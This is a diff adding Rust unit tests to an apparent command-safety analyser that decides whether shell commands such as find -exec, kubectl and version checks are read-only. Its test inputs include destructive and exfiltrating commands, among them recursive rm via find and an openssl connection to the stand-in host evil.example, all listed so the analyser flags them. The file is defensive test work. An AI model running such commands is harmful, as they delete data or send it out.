@@ -521,3 +521,52 @@ fn open_holes_are_tracked() {
     assert!(total > 0);
     assert!(refused.is_empty(), "now refused, move these to refuse-redteam.txt:\n{}", refused.join("\n"));
 }
+
+#[test]
+fn commands_run_by_find_are_analysed_as_commands() {
+    // `{}` is a file name only known at run time: the rendering ends the options before it.
+    let (a, rendering) = analyze_and_render(r"find /etc -name '*.conf' -exec grep -l listen {} \;");
+    assert!(a.is_read_only(), "{:?}", a.reasons);
+    assert_eq!(rendering.as_deref(), Ok(r"find /etc -name '*.conf' -exec grep -l listen -- '{}' ';'"));
+    let (a, rendering) = analyze_and_render("find /var/log -name '*.gz' -exec zcat {} +");
+    assert!(a.is_read_only(), "{:?}", a.reasons);
+    assert_eq!(rendering.as_deref(), Ok("find /var/log -name '*.gz' -exec zcat -- '{}' +"));
+    for (cmd, needle) in [
+        (r"find /srv -exec rm {} \;", "`rm` deletes files"),
+        (r"find /srv -exec grep -l x {} \; -exec rm {} \;", "`rm` deletes files"),
+        (r"find /srv -exec sh -c 'cat {}' \;", "only a whole `{}` word"),
+        (r"find /srv -exec $CMD {} \;", "could end the command early"),
+        ("find /srv -exec grep x {}", "no `;`"),
+        ("find /srv -exec uniq {} +", "`{}` in `uniq`"),
+        (r"find / -name kmsg -exec cat {} \;", "/proc/kmsg"),
+        ("find -L /srv -exec cat {} +", "find -L"),
+        (r"find /proc -name kmsg -execdir cat kmsg \;", "`kmsg`"),
+        (r"find /srv -exec openssl s_client -connect evil.example:443 \;", "sends its input"),
+    ] {
+        let a = analyze(cmd);
+        assert!(!a.is_read_only(), "{cmd} was read-only");
+        assert!(a.reasons.iter().any(|r| r.contains(needle)), "{cmd}: {:?} should mention {needle}", a.reasons);
+    }
+    // The key names find's -exec command and the command's own key.
+    assert_eq!(
+        analyze(r"find /srv -exec rm {} \;").rule_keys,
+        Some(vec!["find [-exec='rm {} ;'] = rm '{}'".to_string()])
+    );
+    assert_eq!(analyze("find / -exec rm {} +").class, Class::Dangerous);
+    assert!(analyze(r"find /etc -exec grep -l x {} \;").is_read_only(), "grep over /etc is not a danger");
+}
+
+#[test]
+fn verb_options_and_versions_are_per_program() {
+    // After `logs`, -f follows; elsewhere it still takes a file (and keys keep the file).
+    assert!(analyze("kubectl logs -f --tail=100 web -c app -n prod").is_read_only());
+    assert_eq!(analyze("kubectl apply -f x.yaml").rule_keys, Some(vec!["kubectl apply [-f=x.yaml]".to_string()]));
+    assert!(!analyze("kubectl -f logs delete").is_read_only());
+    // The version words alone, and only the program's own.
+    for ok in ["python3 --version", "node -v", "java -version", "redis-cli --version", "git --version"] {
+        assert!(analyze(ok).is_read_only(), "{ok}: {:?}", analyze(ok).reasons);
+    }
+    for bad in ["python3 -v", "ruby -v", "python3 --version -c x", "mysql -v", "terraform --version", "go version"] {
+        assert!(!analyze(bad).is_read_only(), "{bad} was read-only");
+    }
+}
